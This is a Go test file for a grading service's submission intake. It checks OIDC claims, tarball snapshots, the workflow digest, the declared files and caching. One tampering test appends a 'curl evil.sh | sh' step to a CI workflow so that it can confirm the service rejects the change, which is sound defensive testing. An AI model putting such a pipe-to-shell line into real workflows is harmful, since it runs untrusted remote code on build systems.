package service

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"testing"

	"github.com/alicebob/miniredis/v2"
	"github.com/klauspost/compress/gzip"
	"github.com/redis/go-redis/v9"
	"github.com/rs/zerolog"
	"github.com/stretchr/testify/require"
	"gorm.io/datatypes"
	"gorm.io/driver/sqlite"
	"gorm.io/gorm"

	"github.com/noah-isme/gradehub-go-api/internal/models"
	"github.com/noah-isme/gradehub-go-api/internal/repository"
	ghclient "github.com/noah-isme/gradehub-go-api/pkg/github"
	"github.com/noah-isme/gradehub-go-api/pkg/oidc"
)

const workflowPath = ".github/workflows/grade.yml"

const approvedWorkflow = `name: grade
on: push
jobs:
  grade:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
`

type stubVerifier struct {
	claims oidc.Claims
	err    error
}

func (s stubVerifier) Verify(_ context.Context, _ string) (oidc.Claims, error) {
	if s.err != nil {
		return oidc.Claims{}, s.err
	}
	return s.claims, nil
}

type stubSnapshots struct {
	raw []byte
	err error
}

func (s stubSnapshots) Download(_ context.Context, _, _ string) ([]byte, error) {
	if s.err != nil {
		return nil, s.err
	}
	return s.raw, nil
}

type snapshotFile struct {
	name     string
	contents []byte
}

func buildSnapshot(t *testing.T, files []snapshotFile) []byte {
	t.Helper()

	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)

	for _, file := range files {
		require.NoError(t, tw.WriteHeader(&tar.Header{
			Name:     "course-hw1-0123456/" + file.name,
			Typeflag: tar.TypeReg,
			Mode:     0o644,
			Size:     int64(len(file.contents)),
		}))
		_, err := tw.Write(file.contents)
		require.NoError(t, err)
	}

	require.NoError(t, tw.Close())
	require.NoError(t, gz.Close())

	return buf.Bytes()
}

func digestOf(data string) string {
	sum := sha256.Sum256([]byte(data))
	return hex.EncodeToString(sum[:])
}

func openTestDB(t *testing.T) *gorm.DB {
	t.Helper()

	dsn := fmt.Sprintf("file:%s?mode=memory&cache=shared", t.Name())
	db, err := gorm.Open(sqlite.Open(dsn), &gorm.Config{TranslateError: true})
	require.NoError(t, err)
	require.NoError(t, db.AutoMigrate(
		&models.Assignment{},
		&models.AssignmentGraderConfig{},
		&models.Repository{},
		&models.Submission{},
		&models.SubmissionFile{},
		&models.GraderResult{},
		&models.GraderResultOutput{},
		&models.GraderResultTest{},
	))

	return db
}

func testClaims() oidc.Claims {
	return oidc.Claims{
		Repository:  "course/hw1-student",
		SHA:         "0123456789abcdef0123456789abcdef01234567",
		WorkflowRef: "course/hw1-student/" + workflowPath + "@refs/heads/main",
		RunID:       900100,
		RunNumber:   3,
		RunAttempt:  1,
	}
}

func seedAssignment(t *testing.T, db *gorm.DB, declared []string, digest string) models.Repository {
	t.Helper()

	assignment := models.Assignment{
		ClassID:         7,
		Title:           "Homework 1",
		SubmissionFiles: datatypes.NewJSONSlice(declared),
	}
	require.NoError(t, db.Create(&assignment).Error)

	require.NoError(t, db.Create(&models.AssignmentGraderConfig{
		AssignmentID:           assignment.ID,
		ExpectedWorkflowDigest: digest,
		GraderRepository:       "course/hw1-grader",
	}).Error)

	link := models.Repository{
		AssignmentID:       assignment.ID,
		UserID:             42,
		ClassID:            7,
		RepositoryFullName: "course/hw1-student",
	}
	require.NoError(t, db.Create(&link).Error)

	return link
}

func newIntakeService(db *gorm.DB, verifier oidc.Verifier, snapshots ghclient.SnapshotClient, cache *redis.Client) IntakeService {
	return NewIntakeService(
		verifier,
		snapshots,
		repository.NewAssignmentRepository(db),
		repository.NewRepoLinkRepository(db),
		repository.NewSubmissionRepository(db),
		cache,
		nil,
		IntakeConfig{WorkflowPath: workflowPath},
		zerolog.Nop(),
	)
}

func TestIntakeRecordsSubmissionAndFiles(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py", "lib/util.py"}, digestOf(approvedWorkflow))

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte("print('hello')\n")},
		{"lib/util.py", []byte("def helper(): pass\n")},
		{"README.md", []byte("not declared, not extracted\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	response, err := svc.Intake(context.Background(), "token")
	require.NoError(t, err)
	require.Equal(t, "https://api.github.com/repos/course/hw1-grader/dispatches", response.GraderURL)

	var submission models.Submission
	require.NoError(t, db.First(&submission).Error)
	require.Equal(t, uint(42), submission.UserID)
	require.Equal(t, uint(7), submission.ClassID)
	require.Equal(t, "course/hw1-student", submission.Repository)
	require.Equal(t, int64(3), submission.RunNumber)
	require.Equal(t, int64(1), submission.RunAttempt)

	var files []models.SubmissionFile
	require.NoError(t, db.Where("submission_id = ?", submission.ID).Order("id").Find(&files).Error)
	require.Len(t, files, 2)
	require.Equal(t, "main.py", files[0].Name)
	require.Equal(t, "print('hello')\n", files[0].Contents)
	require.Equal(t, uint(42), files[0].UserID)
	require.Equal(t, uint(7), files[0].ClassID)
	require.Equal(t, "lib/util.py", files[1].Name)
}

func TestIntakeRejectsTamperedWorkflow(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	tampered := approvedWorkflow + "      - run: curl evil.sh | sh\n"
	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(tampered)},
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var securityErr *SecurityError
	require.ErrorAs(t, err, &securityErr)

	var count int64
	require.NoError(t, db.Model(&models.Submission{}).Count(&count).Error)
	require.Zero(t, count)
}

func TestIntakeSingleByteFlipChangesVerdict(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	flipped := []byte(approvedWorkflow)
	flipped[len(flipped)/2] ^= 0x01
	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, flipped},
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var securityErr *SecurityError
	require.ErrorAs(t, err, &securityErr)
}

func TestIntakeRejectsMissingWorkflowFile(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	raw := buildSnapshot(t, []snapshotFile{
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var userErr *UserVisibleError
	require.ErrorAs(t, err, &userErr)
	require.Contains(t, userErr.Message, "workflow file missing")
}

func TestIntakeRejectsMissingDeclaredFile(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py", "lib/util.py"}, digestOf(approvedWorkflow))

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var userErr *UserVisibleError
	require.ErrorAs(t, err, &userErr)
	require.Contains(t, userErr.Message, "lib/util.py")

	var count int64
	require.NoError(t, db.Model(&models.Submission{}).Count(&count).Error)
	require.Zero(t, count)
}

func TestIntakeGraderURLTargetsGraderRepository(t *testing.T) {
	db := openTestDB(t)

	assignment := models.Assignment{
		ClassID:         7,
		Title:           "Homework 2",
		SubmissionFiles: datatypes.NewJSONSlice([]string{"main.py"}),
	}
	require.NoError(t, db.Create(&assignment).Error)
	require.NoError(t, db.Create(&models.AssignmentGraderConfig{
		AssignmentID:           assignment.ID,
		ExpectedWorkflowDigest: digestOf(approvedWorkflow),
		GraderRepository:       "course/hw2-grader",
	}).Error)
	require.NoError(t, db.Create(&models.Repository{
		AssignmentID:       assignment.ID,
		UserID:             42,
		ClassID:            7,
		RepositoryFullName: "course/hw1-student",
	}).Error)

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	response, err := svc.Intake(context.Background(), "token")
	require.NoError(t, err)
	require.Equal(t, "https://api.github.com/repos/course/hw2-grader/dispatches", response.GraderURL)
}

func TestIntakeRejectsDuplicateDeclaredPath(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py", "main.py"}, digestOf(approvedWorkflow))

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var userErr *UserVisibleError
	require.ErrorAs(t, err, &userErr)
	require.Contains(t, userErr.Message, "duplicate submission file")

	var count int64
	require.NoError(t, db.Model(&models.Submission{}).Count(&count).Error)
	require.Zero(t, count)
}

func TestIntakeRejectsAmbiguousDeclaredFile(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte("first\n")},
		{"main.py", []byte("second\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var userErr *UserVisibleError
	require.ErrorAs(t, err, &userErr)
	require.Contains(t, userErr.Message, "ambiguous")
}

func TestIntakeRejectsEmptyDeclaredFileSet(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, nil, digestOf(approvedWorkflow))

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var userErr *UserVisibleError
	require.ErrorAs(t, err, &userErr)
	require.Contains(t, userErr.Message, "declares no submission files")
}

func TestIntakeRejectsBinarySubmissionFile(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte{0xff, 0xfe, 0x00, 0x01, 0x02}},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var userErr *UserVisibleError
	require.ErrorAs(t, err, &userErr)
	require.Contains(t, userErr.Message, "not UTF-8 text")
}

func TestIntakeRejectsUnregisteredRepository(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	claims := testClaims()
	claims.Repository = "someone-else/rogue-repo"

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: claims}, stubSnapshots{raw: raw}, nil)

	_, err := svc.Intake(context.Background(), "token")
	var securityErr *SecurityError
	require.ErrorAs(t, err, &securityErr)
}

func TestIntakeReplayIsIdempotent(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, nil)

	first, err := svc.Intake(context.Background(), "token")
	require.NoError(t, err)

	second, err := svc.Intake(context.Background(), "token")
	require.NoError(t, err)
	require.Equal(t, first.GraderURL, second.GraderURL)

	var count int64
	require.NoError(t, db.Model(&models.Submission{}).Count(&count).Error)
	require.Equal(t, int64(1), count)
}

func TestIntakeSurfacesSnapshotUnavailable(t *testing.T) {
	db := openTestDB(t)
	seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{err: ghclient.ErrSnapshotUnavailable}, nil)

	_, err := svc.Intake(context.Background(), "token")
	require.ErrorIs(t, err, ghclient.ErrSnapshotUnavailable)
}

func TestIntakeCachesGraderConfig(t *testing.T) {
	db := openTestDB(t)
	link := seedAssignment(t, db, []string{"main.py"}, digestOf(approvedWorkflow))

	mr := miniredis.RunT(t)
	cache := redis.NewClient(&redis.Options{Addr: mr.Addr()})

	raw := buildSnapshot(t, []snapshotFile{
		{workflowPath, []byte(approvedWorkflow)},
		{"main.py", []byte("print('hello')\n")},
	})

	svc := newIntakeService(db, stubVerifier{claims: testClaims()}, stubSnapshots{raw: raw}, cache)

	_, err := svc.Intake(context.Background(), "token")
	require.NoError(t, err)

	cacheKey := fmt.Sprintf("gradehub:grader_config:%d", link.AssignmentID)
	require.True(t, mr.Exists(cacheKey))

	// With the config cached, intake survives the config row disappearing.
	require.NoError(t, db.Where("assignment_id = ?", link.AssignmentID).Delete(&models.AssignmentGraderConfig{}).Error)

	claims := testClaims()
	claims.RunAttempt = 2
	svc = newIntakeService(db, stubVerifier{claims: claims}, stubSnapshots{raw: raw}, cache)

	_, err = svc.Intake(context.Background(), "token")
	require.NoError(t, err)
}
